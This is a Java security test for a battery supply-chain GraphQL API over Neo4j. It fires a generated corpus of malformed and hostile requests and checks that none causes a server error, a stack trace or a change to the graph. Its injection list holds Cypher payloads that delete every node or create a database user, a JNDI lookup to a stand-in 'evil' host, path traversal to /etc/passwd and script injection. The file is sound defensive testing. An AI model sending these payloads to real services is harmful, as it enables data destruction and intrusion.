package org.batterygraph.security;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import jakarta.inject.Inject;

import org.batterygraph.Neo4jTestResource;
import org.batterygraph.Tokens;
import org.junit.jupiter.api.Test;
import org.neo4j.driver.Driver;

import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.vertx.core.json.JsonObject;

/**
 * A generated corpus of hostile requests: syntax errors, deep nesting, alias and fragment bombs, circular
 * fragments, huge variables, wrong types, injection strings in every string argument, unicode edge cases and
 * oversized bodies. None may get a 5xx or a stack trace, every malformed one gets a GraphQL error or a 4xx, and
 * the graph is unchanged afterwards.
 */
@QuarkusTest
@WithTestResource(value = Neo4jTestResource.class, scope = TestResourceScope.GLOBAL)
class HostileRequestsTest {

    /** A request body, and whether it is malformed (must be refused) or merely hostile data (may answer). */
    record Attack(String kind, String contentType, String body, boolean malformed, String token) {
        Attack(String kind, String contentType, String body, boolean malformed) {
            this(kind, contentType, body, malformed, null);
        }
    }

    static final String EVIDENCE = "evidence: {sourceId: \"source:S6\", quote: \"q\", assertedOn: \"2025-01-01\"}";

    /**
     * Every string argument of the mutations. With an editor's (or admin's) token, the id-like ones must still be
     * refused whatever the payload (a malformed id, or one that exists nowhere); without a token all are refused.
     */
    record MutationArgument(String field, boolean refusedWithToken) {
    }

    static final List<MutationArgument> MUTATION_ARGUMENTS = List.of(
            new MutationArgument("upsertOrganization(input: {id: $v, name: \"x\", orgType: Company}, " + EVIDENCE + ") { created }", true),
            new MutationArgument("upsertOrganization(input: {id: \"org:test-h\", name: $v, orgType: Company, description: $v, website: $v}, " + EVIDENCE + ") { created }", false),
            new MutationArgument("upsertOrganization(input: {id: \"org:test-h\", name: \"x\", orgType: Company, headquarteredIn: $v}, " + EVIDENCE + ") { created }", true),
            new MutationArgument("upsertFacility(input: {id: $v, name: \"x\", type: Mine, status: Announced}, " + EVIDENCE + ") { created }", true),
            new MutationArgument("upsertFacility(input: {id: \"facility:test-h\", name: \"x\", type: Mine, status: Announced, operatedBy: $v}, " + EVIDENCE + ") { created }", true),
            new MutationArgument("upsertFacility(input: {id: \"facility:test-h\", name: \"x\", type: Mine, status: Announced, produces: [$v]}, " + EVIDENCE + ") { created }", true),
            new MutationArgument("assertRelationship(input: {from: $v, type: OPERATES, to: \"facility:koreplex\"}, " + EVIDENCE + ") { claimId }", true),
            new MutationArgument("assertRelationship(input: {from: \"org:freyr\", type: OPERATES, to: \"facility:koreplex\"}, evidence: {sourceId: $v, quote: \"q\", assertedOn: \"2025-01-01\"}) { claimId }", true),
            new MutationArgument("assertRelationship(input: {from: \"org:freyr\", type: OPERATES, to: \"facility:koreplex\"}, evidence: {sourceId: \"source:S6\", quote: $v, assertedOn: \"2025-01-01\"}) { claimId }", false),
            new MutationArgument("retireClaim(id: $v, reason: \"r\") { id }", true),
            new MutationArgument("retireClaim(id: \"claim:facility:koreplex.jobs@S4\", reason: $v) { id }", false));

    private static final List<String> INJECTIONS = List.of(
            "' OR 1=1 //", "\"}) MATCH (n) DETACH DELETE n //", "x'}) DETACH DELETE n RETURN 1 //",
            "`) CALL dbms.security.createUser('x','y') //", "$(label)", "${jndi:ldap://evil/a}", "*:*", "name:* OR id:*",
            "\\u0000", "\u0000\u0001\u0002", "‮gnp.exe", "🔋⚡️🇺🇸", "e\u0301\u0301\u0301", "\uD800", "null", "NaN",
            "<script>alert(1)</script>", "../../etc/passwd", "%00%27", "x".repeat(5000), "UNION MATCH (n) RETURN n");

    private static final List<String> STRING_ARGUMENTS = List.of(
            "organization(id: $v) { id }", "organizations(after: $v) { nodes { id } }",
            "facility(id: $v) { id }", "source(id: $v) { id claims { id } }", "claim(id: $v) { id }",
            "search(text: $v) { id }", "neighbourhood(id: $v) { truncated }",
            "paths(from: $v, to: \"org:gm\") { length }", "supplyChain(id: $v, direction: UPSTREAM) { truncated }",
            "concentration(material: $v, metric: MineProduction) { hhi }", "exposure(id: $v) { name }",
            "consortiumNetwork(id: $v) { members { role } }", "organizationNetwork(id: $v) { owners { share } }",
            "facilities(filter: {status: $v}) { nodes { id } }", "facilities(filter: {country: $v}) { nodes { id } }",
            "facilities(filter: {material: $v}) { nodes { id } }", "events(filter: {involving: $v}) { nodes { id } }",
            "productionStats(edition: $v) { id }", "facilityAggregates(groupBy: STATE, filter: {state: $v}) { key }");

    @Inject
    Driver driver;

    @Test
    void hostileCorpusGetsErrorsOr4xxNeverA5xxOrAStackTraceAndChangesNothing() {
        var before = counts();
        var corpus = corpus();
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(500);

        var failures = new ArrayList<String>();
        var byKind = new java.util.TreeMap<String, Integer>();
        for (var attack : corpus) {
            byKind.merge(attack.kind(), 1, Integer::sum);
            var request = given().contentType(attack.contentType()).body(attack.body());
            if (attack.token() != null) {
                request.auth().oauth2(attack.token());
            }
            io.restassured.response.Response response;
            try {
                try {
                    response = request.when().post("/graphql");
                } catch (Exception e) {
                    if (!(rootCause(e) instanceof java.net.SocketException)) {
                        throw e;
                    }
                    // a connection the server closed after an earlier 413 (see below) may be the one reused: ask again
                    response = request.when().post("/graphql");
                }
            } catch (Exception e) { // rest-assured rethrows the socket's IOException undeclared
                // Over the body limit (64 KB: oversized bodies, huge variables) the server answers 413 and closes
                // without reading the rest; a client still writing the tail can then fail on its own write (broken
                // pipe) before it reads the 413. That is a refusal too; any other failure to get an answer is not.
                if (attack.body().getBytes(java.nio.charset.StandardCharsets.UTF_8).length > 64 * 1024
                        && rootCause(e) instanceof java.net.SocketException) {
                    continue;
                }
                throw e;
            }
            int status = response.statusCode();
            var body = response.asString();
            if (status >= 500) {
                failures.add(attack.kind() + ": HTTP " + status);
            } else if (body.matches("(?s).*\\bat (java|jdk|org|io|com)\\.[\\w.$]+\\(.*")) {
                failures.add(attack.kind() + ": stack trace in " + body.substring(0, Math.min(200, body.length())));
            } else if (attack.malformed() && status == 200 && !new JsonObject(body).containsKey("errors")) {
                failures.add(attack.kind() + ": accepted " + attack.body().substring(0, Math.min(120, attack.body().length())));
            }
        }
        assertThat(failures).as("requests answered wrongly, by kind %s", byKind).isEmpty();
        assertThat(counts()).as("node and relationship counts").isEqualTo(before);
    }

    private static Throwable rootCause(Throwable e) {
        while (e.getCause() != null && e.getCause() != e) {
            e = e.getCause();
        }
        return e;
    }

    private List<Attack> corpus() {
        var random = new Random(20261122);
        var attacks = new ArrayList<Attack>();
        var valid = List.of("{ organizations(first: 5) { nodes { id name memberships { role consortium { name } } } } }",
                "{ facility(id: \"facility:koreplex\") { name operators { name via { claims { quote } } } } }",
                "{ neighbourhood(id: \"country:US\", depth: 2) { nodes { id } edges { type } } }");
        // 1. syntax errors: valid documents cut or garbled at random places
        for (int i = 0; i < 90; i++) {
            var doc = valid.get(i % valid.size());
            int cut = 1 + random.nextInt(doc.length() - 2);
            // garbage goes before a brace, never inside a string literal (that would be a valid, odd value)
            int brace = doc.indexOf('{', cut) < 0 ? doc.lastIndexOf('{') : doc.indexOf('{', cut);
            var broken = i % 2 == 0 ? doc.substring(0, cut) : doc.substring(0, brace) + "}{)(:!@" + doc.substring(brace);
            attacks.add(graphql("syntax", broken, Map.of(), true));
        }
        // 2. deep nesting, 13 to 60 levels
        for (int depth = 13; depth <= 60; depth += 2) {
            var inner = "id";
            for (int i = 0; i < depth / 4 + 1; i++) {
                inner = "memberships { consortium { members { organization { " + inner + " } } } }";
            }
            attacks.add(graphql("deep nesting", "{ organizations { nodes { " + inner + " } } }", Map.of(), true));
        }
        // 3. alias bombs
        for (int n : new int[] { 31, 200, 800, 1500, 3000 }) {
            for (var field : List.of("organizations { nodes { id name } }", "neighbourhood(id: \"country:US\", depth: 3, limit: 500) { truncated }",
                    "conflicts { reason }", "search(text: \"lithium\") { id }")) {
                var doc = IntStream.range(0, n).mapToObj(i -> "a" + i + ": " + field).collect(Collectors.joining(" ", "{ ", " }"));
                attacks.add(graphql("alias bomb", doc, Map.of(), true));
            }
        }
        // 4. fragment bombs: each fragment spreads the next one ten times
        for (int levels = 4; levels <= 13; levels++) {
            var doc = new StringBuilder("{ ...F0 }");
            for (int i = 0; i < levels; i++) {
                doc.append(" fragment F").append(i).append(" on Query { ");
                doc.append(i == levels - 1 ? "organizations { nodes { id } }" : (" ...F" + (i + 1)).repeat(10));
                doc.append(" }");
            }
            attacks.add(graphql("fragment bomb", doc.toString(), Map.of(), true));
        }
        // 5. circular fragments
        for (int n = 1; n <= 15; n++) {
            var doc = new StringBuilder("{ ...C0 }");
            for (int i = 0; i < n; i++) {
                doc.append(" fragment C").append(i).append(" on Query { organizations { nodes { id } } ...C").append((i + 1) % n).append(" }");
            }
            attacks.add(graphql("circular fragments", doc.toString(), Map.of(), true));
        }
        // 6. huge variables and lists
        for (int size : new int[] { 1_000, 10_000, 30_000, 60_000 }) {
            attacks.add(graphql("huge variable", "query ($v: String!) { search(text: $v) { id } }", Map.of("v", "lithium ".repeat(size / 8)), true));
            attacks.add(graphql("huge list", "query ($v: [String]) { neighbourhood(id: \"country:US\", relationshipTypes: $v) { truncated } }",
                    Map.of("v", java.util.Collections.nCopies(size / 10, "OPERATES")), false));
            attacks.add(graphql("huge list", "query ($v: [String]) { search(text: \"x\", kinds: $v) { id } }",
                    Map.of("v", java.util.Collections.nCopies(size / 10, "Organization'")), true));
        }
        // 7. wrong types
        var wrong = List.of("{ organizations(first: \"ten\") { nodes { id } } }", "{ organizations(first: 2.5) { nodes { id } } }",
                "{ organizations(first: 99999999999) { nodes { id } } }", "{ neighbourhood(id: [\"a\"]) { truncated } }",
                "{ supplyChain(id: \"x\", direction: SIDEWAYS) { truncated } }", "{ concentration(material: \"m\", metric: \"MineProduction\") { hhi } }",
                "{ events(filter: {from: \"yesterday\"}) { nodes { id } } }", "{ events(filter: {from: \"2025-13-45\"}) { nodes { id } } }",
                "{ facilities(filter: {statusOn: 20250101}) { nodes { id } } }", "{ facilities(filter: \"all\") { nodes { id } } }",
                "{ facilities(orderBy: RANDOM) { nodes { id } } }", "{ paths(from: null, to: \"x\") { length } }",
                "{ organization { id } }", "{ organization(id: \"org:gm\") }", "{ organization(id: \"org:gm\") { nosuchfield } }",
                "{ nosuchquery }", "mutation { deleteEverything }", "subscription { organizations { id } }",
                "{ search(text: \"lithium\", limit: -1) { id } }", "{ neighbourhood(id: \"country:US\", depth: -3) { truncated } }");
        for (int i = 0; i < 3; i++) {
            for (var doc : wrong) {
                attacks.add(graphql("wrong type", doc, Map.of(), true));
            }
        }
        // 8. injection and unicode strings in every string argument, passed as variables and inline
        for (var argument : STRING_ARGUMENTS) {
            for (var payload : INJECTIONS) {
                attacks.add(graphql("injection", "query ($v: String!) { " + argument.replace("$v", "$v") + " }",
                        Map.of("v", payload), false));
            }
        }
        // 8b. the same in every string argument of the mutations: without a token, and with one where the payload
        // lands in an id (never a valid one), so nothing may be written
        var editor = Tokens.of("test-hostile", "editor", "admin");
        for (var argument : MUTATION_ARGUMENTS) {
            for (var payload : INJECTIONS) {
                var type = argument.refusedWithToken() ? "ID!" : "String!";
                var document = "mutation ($v: " + type + ") { " + argument.field() + " }";
                attacks.add(graphql("mutation injection, no token", document, Map.of("v", payload), true));
                if (argument.refusedWithToken()) {
                    var attack = graphql("mutation injection, editor", document, Map.of("v", payload), true);
                    attacks.add(new Attack(attack.kind(), attack.contentType(), attack.body(), true, editor));
                }
            }
        }
        // 9. oversized bodies and broken envelopes
        // Just over the 64 KB limit: the server answers 413 without reading the rest. (A client that keeps sending
        // megabytes after the 413 waits on its own write; the server is not affected.)
        for (int kb : new int[] { 65, 70, 80, 96 }) {
            attacks.add(new Attack("oversized body", "application/json",
                    new JsonObject(Map.of("query", "{ organizations { nodes { id } } }", "pad", "x".repeat(kb * 1024))).encode(), true));
        }
        var envelopes = List.of("", "{", "[]", "null", "{\"query\": 5}", "{\"query\": null}", "{\"variables\": {}}",
                "{\"query\": \"{ organizations { nodes { id } } }\", \"variables\": \"not an object\"}", "not json at all", "\u0000\u0000");
        for (var envelope : envelopes) {
            attacks.add(new Attack("broken envelope", "application/json", envelope, true));
            attacks.add(new Attack("wrong content type", "text/plain", envelope + "{ organizations { nodes { id } } }", true));
        }
        return attacks;
    }

    private static Attack graphql(String kind, String query, Map<String, Object> variables, boolean malformed) {
        return new Attack(kind, "application/json", new JsonObject(Map.of("query", query, "variables", variables)).encode(), malformed);
    }

    private List<Long> counts() {
        var record = driver.executableQuery("""
                CALL () { MATCH (n) RETURN count(n) AS nodes }
                CALL () { MATCH ()-[r]->() RETURN count(r) AS relationships }
                RETURN nodes, relationships
                """).execute().records().get(0);
        return List.of(record.get("nodes").asLong(), record.get("relationships").asLong());
    }
}
